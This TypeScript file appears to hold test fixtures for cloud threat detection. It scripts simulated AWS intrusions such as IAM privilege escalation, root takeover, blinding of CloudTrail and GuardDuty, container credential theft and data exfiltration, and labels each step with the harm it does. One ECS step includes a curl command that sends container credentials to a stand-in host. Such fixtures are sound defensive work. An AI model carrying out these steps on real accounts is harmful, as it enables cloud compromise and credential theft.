import { AGENTS, DATA, HOME, role, ROOT, STRANGER, user, type Caller, type Intrusion, type Step } from '../step';

const allow = (principal: unknown, action: unknown): string =>
  JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: principal, Action: action, Resource: '*' }] });
const denied = { error: 'AccessDeniedException', message: 'User is not authorized to perform this action' };
const NODE = 'aws-sdk-js/3.622.0 ua/2.0 os/linux#5.15.0 lang/js md/nodejs#20.15.1 api/lambda#3.622.0';
const signIn = (word: string) => ({ eventType: 'AwsConsoleSignIn', responseElements: { [word]: 'Success' } });
const management: Caller = role('AWSReservedSSO_AdministratorAccess_2b3c4d5e6f7a8b9c', 'ceo@example.com', '198.51.100.99', AGENTS.browser);

/** The half of the fourth set that is about all the other services. */
export const services: readonly Intrusion[] = [
  {
    name: 'rights that grow from small ones',
    as: user('intern', 'Boto3/1.35.10 md/Botocore#1.35.10 ua/2.0 os/linux#6.8.11-amd64 lang/python#3.12.6 Botocore/1.35.10', '198.51.100.140'),
    steps: [
      { call: 'signin:ConsoleLogin', as: { ...user('intern', AGENTS.browser, '198.51.100.140'), identity: { type: 'IAMUser', principalId: 'AIDAEXAMPLEUSER00001', arn: `arn:aws:iam::${HOME}:user/intern`, accountId: HOME, userName: 'intern' } }, more: { ...signIn('ConsoleLogin'), additionalEventData: { LoginTo: 'https://console.aws.amazon.com/console/home', MobileVersion: 'No', MFAUsed: 'No' } }, harm: 'a user signed in without a second factor' },
      { call: 'iam:ListAttachedUserPolicies', request: { userName: 'intern' } },
      { call: 'iam:SetDefaultPolicyVersion', request: { policyArn: `arn:aws:iam::${HOME}:policy/interns`, versionId: 'v1' }, harm: 'an older, wider version of a policy put in force' },
      { call: 'iam:AttachGroupPolicy', request: { groupName: 'interns', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }, harm: 'a group made one of administrators' },
      { call: 'iam:PutGroupPolicy', request: { groupName: 'readers', policyName: 'p', policyDocument: JSON.stringify({ Version: '2012-10-17', Statement: { Effect: 'Allow', NotAction: 'aws-portal:*', Resource: ['*'] } }, null, 4) }, harm: 'a policy that allows everything but one thing written into a group' },
      { call: 'iam:PutUserPolicy', request: { userName: 'intern', policyName: 'q', policyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: ['iam:*', 'sts:AssumeRole'], Resource: '*' }] }) }, ...denied, harm: 'a policy for all of IAM tried' },
      { call: 'iam:UpdateAccessKey', request: { userName: 'former-admin', accessKeyId: 'AKIAI44QH8DHBEXAMPLE', status: 'Active' }, harm: 'the old key of another user woken up' },
      { call: 'iam:UploadSigningCertificate', request: { userName: 'former-admin', certificateBody: '-----BEGIN CERTIFICATE-----' }, harm: 'a certificate to sign in with for another user' },
      { call: 'iam:UpdateAssumeRolePolicy', request: { roleName: 'backup', policyDocument: JSON.stringify({ Version: '2008-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: [`arn:aws:iam::${HOME}:root`, STRANGER], Service: 'ec2.amazonaws.com' }, Action: ['sts:AssumeRole', 'sts:TagSession'] }] }) }, harm: 'a role trusts a strange account beside one’s own, by its bare number' },
      { call: 'iam:AddClientIDToOpenIDConnectProvider', request: { openIDConnectProviderArn: `arn:aws:iam::${HOME}:oidc-provider/token.actions.githubusercontent.com`, clientID: 'https://github.com/stranger' }, harm: 'tokens for somebody else’s programs accepted' },
      { call: 'glue:CreateDevEndpoint', request: { endpointName: 'x', roleArn: `arn:aws:iam::${HOME}:role/GlueAdmin`, publicKey: 'ssh-rsa AAAA' }, harm: 'a machine with a stronger role to log in to' },
      { call: 'iam:DeleteAccountPasswordPolicy', harm: 'the rules for passwords deleted' },
    ],
  },
  {
    name: 'the account itself stolen',
    as: management,
    steps: [
      { call: 'signin:PasswordRecoveryRequested', as: ROOT, more: signIn('PasswordRecoveryRequested') },
      { call: 'signin:PasswordRecoveryCompleted', as: ROOT, more: signIn('PasswordRecoveryCompleted'), harm: 'the password of root set anew' },
      { call: 'account:StartPrimaryEmailUpdate', request: { AccountId: '222233334444', PrimaryEmail: 'HIDDEN_DUE_TO_SECURITY_REASONS' } },
      { call: 'account:AcceptPrimaryEmailUpdate', request: { AccountId: '222233334444', PrimaryEmail: 'HIDDEN_DUE_TO_SECURITY_REASONS', Otp: 'HIDDEN_DUE_TO_SECURITY_REASONS' }, harm: 'the address of root of a member account exchanged' },
      { call: 'iam:EnableOrganizationsRootSessions', harm: 'sessions as root of all accounts made possible' },
      { call: 'organizations:UpdatePolicy', request: { policyId: 'p-aa11bb22', content: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] }) }, harm: 'a guard rail rewritten to allow everything' },
      { call: 'organizations:MoveAccount', request: { accountId: '222233334444', sourceParentId: 'ou-a1b2-prod0001', destinationParentId: 'r-a1b2' }, harm: 'an account moved out from under its guard rails' },
      { call: 'cloudformation:CreateStackSet', request: { stackSetName: 'baseline-2', templateURL: 'https://stranger-drop.s3.amazonaws.com/t.yml', permissionModel: 'SERVICE_MANAGED', autoDeployment: { enabled: true, retainStacksOnAccountRemoval: true }, capabilities: ['CAPABILITY_NAMED_IAM'] } },
      { call: 'cloudformation:CreateStackInstances', request: { stackSetName: 'baseline-2', deploymentTargets: { organizationalUnitIds: ['r-a1b2'] }, regions: ['us-east-1'] }, harm: 'what the intruder wrote rolled out to every account' },
      { call: 'route53domains:DisableDomainTransferLock', request: { domainName: 'acme.example' }, harm: 'the lock of a domain taken off' },
      { call: 'route53domains:TransferDomainToAnotherAwsAccount', request: { domainName: 'acme.example', accountId: STRANGER }, harm: 'a domain given to a strange account' },
    ],
  },
  {
    name: 'those who watch sent to sleep, one by one',
    as: role('SecurityTooling', 'deploy', '198.51.100.141'),
    steps: [
      { call: 'cloudtrail:DescribeTrails', request: { trailNameList: [] } },
      { call: 'cloudtrail:PutEventSelectors', request: { trailName: 'organization', advancedEventSelectors: [{ name: 'm', fieldSelectors: [{ field: 'eventCategory', equals: ['Management'] }, { field: 'readOnly', equals: ['true'] }] }] }, harm: 'the trail keeps reads only' },
      { call: 'cloudtrail:UpdateTrail', request: { name: 'organization', s3BucketName: 'stranger-drop', kmsKeyId: '' }, harm: 'the trail sent to another bucket' },
      { call: 's3:DeleteObjects', request: { bucketName: 'acme-cloudtrail-logs', delete: '', Host: 'acme-cloudtrail-logs.s3.us-east-1.amazonaws.com' }, more: { ...DATA, resources: [{ type: 'AWS::S3::Object', ARN: `arn:aws:s3:::acme-cloudtrail-logs/AWSLogs/${HOME}/CloudTrail/us-east-1/2026/05/02/${HOME}_CloudTrail_us-east-1_20260502T0800Z_a.json.gz` }, { accountId: HOME, type: 'AWS::S3::Bucket', ARN: 'arn:aws:s3:::acme-cloudtrail-logs' }] }, harm: 'logs of the trail deleted' },
      { call: 'config:DeleteDeliveryChannel', request: { deliveryChannelName: 'default' }, harm: 'AWS Config left without a place to write to' },
      { call: 'guardduty:UpdateDetector', request: { detectorId: '12abc34d567e8fa901bc2d34e56789f0', enable: true, features: [{ name: 'S3_DATA_EVENTS', status: 'DISABLED' }, { name: 'RUNTIME_MONITORING', status: 'DISABLED' }, { name: 'EBS_MALWARE_PROTECTION', status: 'DISABLED' }] }, harm: 'GuardDuty left on, with its eyes shut' },
      { call: 'guardduty:UpdateOrganizationConfiguration', request: { detectorId: '12abc34d567e8fa901bc2d34e56789f0', autoEnableOrganizationMembers: 'NONE' }, harm: 'new accounts left without GuardDuty' },
      { call: 'securityhub:CreateAutomationRule', request: { RuleName: 'tidy', RuleOrder: 1, RuleStatus: 'ENABLED', Description: 'x', Criteria: { SeverityLabel: [{ Value: 'CRITICAL', Comparison: 'EQUALS' }, { Value: 'HIGH', Comparison: 'EQUALS' }] }, Actions: [{ Type: 'FINDING_FIELDS_UPDATE', FindingFieldsUpdate: { Workflow: { Status: 'SUPPRESSED' } } }] }, harm: 'grave findings put away by a rule' },
      { call: 'events:RemoveTargets', request: { rule: 'guardduty-to-soc', ids: ['soc-queue'], force: false }, harm: 'alerts that reach nobody' },
      { call: 'monitoring:DeleteAlarms', request: { alarmNames: ['cis-root-usage', 'cis-trail-changes', 'cis-console-without-mfa'] }, harm: 'the alarms of the watch deleted' },
      { call: 'inspector2:Disable', request: { accountIds: [HOME], resourceTypes: ['EC2', 'ECR', 'LAMBDA'] }, harm: 'the search for vulnerabilities switched off' },
    ],
  },
  {
    name: 'containers and functions made one’s own',
    as: role('github-deploy', 'GitHubActions', '198.51.100.142', NODE),
    steps: [
      { call: 'ecs:ListClusters', request: {} },
      { call: 'ecs:RunTask', request: { cluster: 'prod', taskDefinition: 'migrate:12', launchType: 'FARGATE', count: 1, overrides: { taskRoleArn: `arn:aws:iam::${HOME}:role/prod-admin`, containerOverrides: [{ name: 'app', command: ['sh', '-c', 'curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- https://hook.example.net'] }] } }, harm: 'a task with another role and a command that carries its credentials off' },
      { call: 'ecs:ExecuteCommand', request: { cluster: 'prod', task: 'a1b2c3d4e5f60718293a4b5c6d7e8f90', container: 'app', command: '/bin/sh', interactive: true }, harm: 'a shell in a container of production' },
      { call: 'eks:UpdateClusterConfig', request: { name: 'prod', resourcesVpcConfig: { endpointPublicAccess: true, endpointPrivateAccess: true, publicAccessCidrs: ['0.0.0.0/0'] } }, harm: 'the door of a cluster opened to everyone' },
      { call: 'eks:AssociateIdentityProviderConfig', request: { clusterName: 'prod', oidc: { identityProviderConfigName: 'x', issuerUrl: 'https://token.example.net', clientId: 'kubernetes', groupsClaim: 'groups' } }, harm: 'a cluster that trusts tokens of a strange issuer' },
      { call: 'lambda:AddPermission20150331v2', request: { functionName: 'checkout', statementId: 's3', action: 'lambda:InvokeFunction', principal: 's3.amazonaws.com', sourceAccount: STRANGER, sourceArn: 'arn:aws:s3:::stranger-drop' }, harm: 'a bucket of a strange account may call a function' },
      { call: 'lambda:UpdateFunctionUrlConfig', request: { functionName: 'checkout', authType: 'NONE', cors: { allowOrigins: ['*'] } }, harm: 'a URL of a function left without any check' },
      { call: 'lambda:DeleteFunctionCodeSigningConfig', request: { functionName: 'checkout' }, harm: 'code that nobody signed allowed in a function' },
    ],
  },
  {
    name: 'data, models and mail used up and held back',
    as: user('data-export', AGENTS.boto, '198.51.100.143'),
    steps: [
      { call: 'rds:RestoreDBInstanceFromDBSnapshot', request: { dBInstanceIdentifier: 'orders-t', dBSnapshotIdentifier: 'rds:orders-2026-05-01-04-10', publiclyAccessible: true, vpcSecurityGroupIds: ['sg-0aa11bb22cc33dd44'] }, harm: 'a copy of a database put on the Internet' },
      { call: 'rds:ModifyDBInstance', request: { dBInstanceIdentifier: 'orders', backupRetentionPeriod: 0, deletionProtection: false, applyImmediately: true }, harm: 'backups and protection of a database switched off' },
      { call: 'dynamodb:UpdateContinuousBackups', request: { tableName: 'users', pointInTimeRecoverySpecification: { pointInTimeRecoveryEnabled: false } }, harm: 'the way back of a table cut' },
      { call: 'kms:CreateGrant', request: { keyId: `arn:aws:kms:us-east-1:${HOME}:key/1111`, granteePrincipal: `arn:aws:iam::${STRANGER}:root`, operations: ['Decrypt', 'CreateGrant', 'DescribeKey'] }, response: { grantId: 'g' }, harm: 'a strange account allowed to decrypt' },
      { call: 'kms:CreateCustomKeyStore', request: { customKeyStoreName: 'hsm', customKeyStoreType: 'EXTERNAL_KEY_STORE', xksProxyUriEndpoint: 'https://xks.example.net', xksProxyUriPath: '/kms/xks/v1', xksProxyConnectivity: 'PUBLIC_ENDPOINT' }, harm: 'keys that lie outside AWS, in the intruder’s hands' },
      { call: 'secretsmanager:DeleteSecret', request: { secretId: 'prod/db', forceDeleteWithoutRecovery: true }, harm: 'a secret deleted for good' },
      { call: 'bedrock:ListFoundationModels', request: {} },
      ...['us-east-1', 'us-east-2', 'us-west-2', 'eu-west-1', 'eu-central-1', 'ap-northeast-1', 'ap-southeast-2', 'ca-central-1'].map((region, n): Step => ({ call: 'bedrock:Converse', request: { modelId: 'us.anthropic.claude-sonnet-4-20250514-v1:0' }, ...denied, region, after: 2, ...(n === 7 ? { harm: 'a model tried in one region after the other' } : {}) })),
      { call: 'bedrock:PutModelInvocationLoggingConfiguration', request: { loggingConfig: { s3Config: { bucketName: 'stranger-drop', keyPrefix: 'x' }, textDataDeliveryEnabled: true, imageDataDeliveryEnabled: false } }, harm: 'what is asked of models written to a bucket of the intruder’s' },
      ...['us-east-1', 'us-east-2', 'us-west-2', 'eu-west-1', 'eu-central-1', 'ap-southeast-2'].map((region, n): Step => ({ call: 'ses:GetSendQuota', region, after: 2, ...(n === 5 ? { harm: 'how much mail may be sent asked in one region after the other' } : {}) })),
      { call: 'ses:PutIdentityPolicy', request: { identity: 'acme.example', policyName: 'x', policy: allow({ AWS: STRANGER }, ['ses:SendEmail', 'ses:SendRawEmail']) }, harm: 'a strange account may send in the company’s name' },
      { call: 'ses:CreateReceiptRule', request: { ruleSetName: 'default', rule: { name: 'copy', enabled: true, recipients: ['acme.example'], actions: [{ s3Action: { bucketName: 'stranger-drop' } }] } }, harm: 'mail that comes in copied to a bucket' },
    ],
  },
];
